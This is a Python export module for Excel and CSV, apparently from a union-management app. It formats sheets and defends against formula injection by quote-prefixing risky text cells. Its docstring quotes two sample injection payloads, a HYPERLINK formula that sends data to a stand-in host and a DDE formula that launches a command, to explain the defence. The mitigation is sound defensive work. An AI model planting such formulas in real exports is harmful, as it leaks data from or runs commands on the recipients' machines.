"""Excel exports: one sheet-writing step for every app (bold header, yuan format, widths),
and the one place where exported text is made safe from formula injection.

A worker, an employer or a station may be named ``=HYPERLINK("http://evil.example/?x="&B2)``
or ``=cmd|' /C calc'!A0``: written as they are, Excel or WPS runs them as formulas when a
colleague opens the export. Every cell of text that starts with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return (OWASP's list) is therefore written as a text cell with Excel's
quote prefix (shown as typed, still text after an edit) and, in CSV, behind a single quote
(``'=…``), which is how Excel itself keeps such text. Numbers, dates and Decimals are never
touched: a negative amount stays a number. ``gonghui.core.tabular.read_table`` drops that
quote again when a CSV comes back, so exported templates import back unchanged.
"""

from collections.abc import Iterable, Sequence

from openpyxl import Workbook
from openpyxl.cell.cell import Cell
from openpyxl.styles import Font

YUAN_FORMAT = "#,##0.00"
BOLD = Font(bold=True)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CSV_QUOTE = "'"


def looks_like_formula(value: object) -> bool:
    """True for text a spreadsheet would read as a formula (numbers never are)."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def _quoted(text: str) -> bool:
    # Text that itself starts with the quote gets one more, so reading back is unambiguous.
    return looks_like_formula(text) or text.startswith(CSV_QUOTE)


def csv_cell(value: object) -> object:
    """A CSV cell: text that would start a formula behind a single quote, the rest as it is."""
    return CSV_QUOTE + value if isinstance(value, str) and _quoted(value) else value


def csv_uncell(text: str) -> str:
    """The text ``csv_cell`` quoted, as it was: the inverse used when a CSV is read back."""
    if text.startswith(CSV_QUOTE) and _quoted(text[1:]):
        return text[1:]
    return text


def sheet_row(sheet, row: Iterable[object]) -> list[object]:
    """``row`` ready for ``sheet.append`` (normal or write-only): formula-like text as text
    cells with the quote prefix, everything else untouched."""
    cells: list[object] = []
    for value in row:
        if looks_like_formula(value):
            cell = Cell(sheet, row=1, column=1, value=value)
            cell.data_type = "s"  # openpyxl made "=…" a formula; a string is never evaluated
            cell.quotePrefix = True
            cells.append(cell)
        else:
            cells.append(value)
    return cells


def append_row(sheet, row: Iterable[object]) -> None:
    """Append one row through ``sheet_row``: the only way our exports write sheet rows."""
    sheet.append(sheet_row(sheet, row))


def add_sheet(
    book: Workbook,
    title: str,
    header: Sequence[str],
    rows: Iterable[Sequence],
    *,
    money_columns: Sequence[int] = (),
):
    """Append a sheet; ``money_columns`` (1-based) hold yuan (Decimal from exact fen)."""
    sheet = book.create_sheet(title)
    append_row(sheet, header)
    for cell in sheet[1]:
        cell.font = BOLD
    for row in rows:
        append_row(sheet, row)
        for column in money_columns:
            sheet.cell(row=sheet.max_row, column=column).number_format = YUAN_FORMAT
    for index, name in enumerate(header, start=1):
        sheet.column_dimensions[sheet.cell(row=1, column=index).column_letter].width = max(
            12, len(name) * 2 + 2
        )
    return sheet


def new_workbook() -> Workbook:
    """A workbook without openpyxl's default empty sheet."""
    book = Workbook()
    book.remove(book.active)
    return book


TEXT_COLUMNS = ("身份证号", "统一社会信用代码", "手机号码", "联系电话")
TEMPLATE_ROWS = 1000


def template_workbook(title: str, header: Sequence[str], example: Sequence[object]) -> Workbook:
    """A list to fill in: the first sheet (the one importers read) holds only the header, its
    ID and code columns stored as text so Excel keeps every digit; the example row sits on a
    second sheet, where it can show how to fill a row but never be imported by mistake."""
    book = new_workbook()
    sheet = add_sheet(book, title, header, [])
    for index, name in enumerate(header, start=1):
        if name in TEXT_COLUMNS:
            letter = sheet.cell(row=1, column=index).column_letter
            sheet.column_dimensions[letter].width = 22
            sheet.column_dimensions[letter].number_format = "@"
            for row in range(2, TEMPLATE_ROWS + 2):
                sheet[f"{letter}{row}"].number_format = "@"
    add_sheet(book, "填写示例", header, [example])
    return book
